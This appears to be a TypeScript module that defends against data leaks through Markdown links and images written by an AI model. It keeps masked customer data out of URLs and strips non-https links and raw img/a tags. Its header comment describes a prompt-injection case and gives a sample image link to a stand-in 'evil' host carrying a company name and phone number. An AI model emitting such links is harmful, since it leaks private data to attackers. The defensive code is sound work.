/**
 * Links and images in what a model wrote. A model (or a prompt injected into the intake) can
 * write `![x](http://evil/p?c=〔客户A〕&t=〔电话1〕)`: un-masked, the URL would carry the real company
 * name and phone number, and any viewer that loads images would send them out. So:
 * - masks are put back only in text, never inside a link or image destination, an autolink, a
 *   reference definition or a bare URL ({@link urlZones});
 * - images and links whose destination is not a plain `https` URL are taken out of the Markdown
 *   (an image becomes its alt text, a link its text), raw `<img>` / `<a>` tags likewise, and the
 *   caller reports what was removed ({@link stripUnsafeLinks}).
 * Every scan here is linear: a destination is read at most {@link MAX_DESTINATION} characters.
 */

/** Longest destination read; a longer one is not a link. */
const MAX_DESTINATION = 2048;

/** `https://host/…` with no credentials and nothing odd in it. */
export function isPlainHttps(destination: string): boolean {
  const d = destination.startsWith('<') && destination.endsWith('>') ? destination.slice(1, -1) : destination;
  if (!/^https:\/\//i.test(d) || /[\s\u0000-\u001f\u007f<>"\\]/.test(d)) return false;
  try {
    const url = new URL(d);
    return url.protocol === 'https:' && !url.username && !url.password && url.hostname.length > 0;
  } catch {
    return false;
  }
}

/** A Markdown inline link or image: `[text](dest "title")`, `![alt](dest)`. */
interface InlineLink {
  /** Where the whole construct starts (`!` or `[`) and ends (after `)`). */
  start: number;
  end: number;
  image: boolean;
  text: string;
  destination: string;
  /** [start, end) of what is between the parentheses. */
  destStart: number;
  destEnd: number;
}

/** The inline links and images of a text, left to right. */
function inlineLinks(text: string): InlineLink[] {
  const out: InlineLink[] = [];
  let floor = 0; // a link's text never reaches back before the previous link
  for (let i = text.indexOf('](', 0); i >= 0; i = text.indexOf('](', i + 2)) {
    if (i < floor) continue;
    // The closing parenthesis, with balanced parentheses inside, on the same line.
    let depth = 0;
    let close = -1;
    for (let j = i + 2; j < text.length && j < i + 2 + MAX_DESTINATION; j++) {
      const c = text[j];
      if (c === '\n') break;
      if (c === '\\') j++;
      else if (c === '(') depth++;
      else if (c === ')') {
        if (depth === 0) {
          close = j;
          break;
        }
        depth--;
      }
    }
    if (close < 0) continue;
    // The opening bracket, with balanced brackets inside, on the same line.
    let open = -1;
    let nested = 0;
    for (let j = i - 1; j >= floor; j--) {
      const c = text[j];
      if (c === '\n') break;
      if (c === ']') nested++;
      else if (c === '[') {
        if (nested === 0) {
          open = j;
          break;
        }
        nested--;
      }
    }
    if (open < 0) continue;
    const image = open > 0 && text[open - 1] === '!';
    const inside = text.slice(i + 2, close).trim();
    const destination = inside.startsWith('<') ? inside.slice(0, inside.indexOf('>') + 1 || undefined) : (inside.split(/\s/, 1)[0] ?? '');
    out.push({ start: image ? open - 1 : open, end: close + 1, image, text: text.slice(open + 1, i), destination, destStart: i + 2, destEnd: close });
    floor = close + 1;
    i = close - 1;
  }
  return out;
}

const AUTOLINK = /<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]{0,2048})>/g;
const REFERENCE_DEFINITION = /^ {0,3}\[[^\]\n]{1,999}\]:[ \t]*(\S{1,2048}).*$/gm;
/** A bare URL in text (GFM viewers link them): from the scheme to the next blank. */
const BARE_URL = /(?<![A-Za-z0-9+.-])(?:https?|ftp|file|data|javascript):[^\s<>]{1,2048}/gi;
const RAW_TAG = /<(img|a)\b([^<>]{0,2048})>/gi;
const ATTRIBUTE = /\b(src|href)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))/i;

/**
 * Spans of `text` that are addresses: inline link and image destinations, autolinks, the
 * destinations of reference definitions, raw `src`/`href` values and bare URLs. Sorted, may overlap.
 */
export function urlZones(text: string): Array<[number, number]> {
  const zones: Array<[number, number]> = [];
  for (const l of inlineLinks(text)) zones.push([l.destStart, l.destEnd]);
  for (const re of [AUTOLINK, REFERENCE_DEFINITION, BARE_URL, RAW_TAG]) {
    re.lastIndex = 0;
    for (let m = re.exec(text); m; m = re.exec(text)) zones.push([m.index, m.index + m[0].length]);
  }
  return zones.sort((a, b) => a[0] - b[0]);
}

export interface StrippedLinks {
  markdown: string;
  /** The destinations taken out, in order. */
  removed: string[];
}

/** Takes out the images and links whose destination is not a plain https URL (see the file comment). */
export function stripUnsafeLinks(markdown: string): StrippedLinks {
  const removed: string[] = [];
  let out = '';
  let at = 0;
  for (const l of inlineLinks(markdown)) {
    if (isPlainHttps(l.destination)) continue;
    removed.push(l.destination);
    out += markdown.slice(at, l.start) + l.text;
    at = l.end;
  }
  let text = out + markdown.slice(at);
  text = text.replace(REFERENCE_DEFINITION, (line, destination: string) => {
    if (isPlainHttps(destination)) return line;
    removed.push(destination);
    return '';
  });
  text = text.replace(AUTOLINK, (whole, destination: string) => {
    if (isPlainHttps(destination)) return whole;
    removed.push(destination);
    // As code, so that no viewer links it again.
    return `\`${destination.replace(/`/g, '')}\``;
  });
  text = text.replace(RAW_TAG, (whole, _tag: string, attrs: string) => {
    const m = ATTRIBUTE.exec(attrs);
    const destination = m ? (m[2] ?? m[3] ?? m[4] ?? '') : '';
    if (m && isPlainHttps(destination)) return whole;
    removed.push(destination || whole);
    return '';
  });
  return { markdown: text, removed };
}
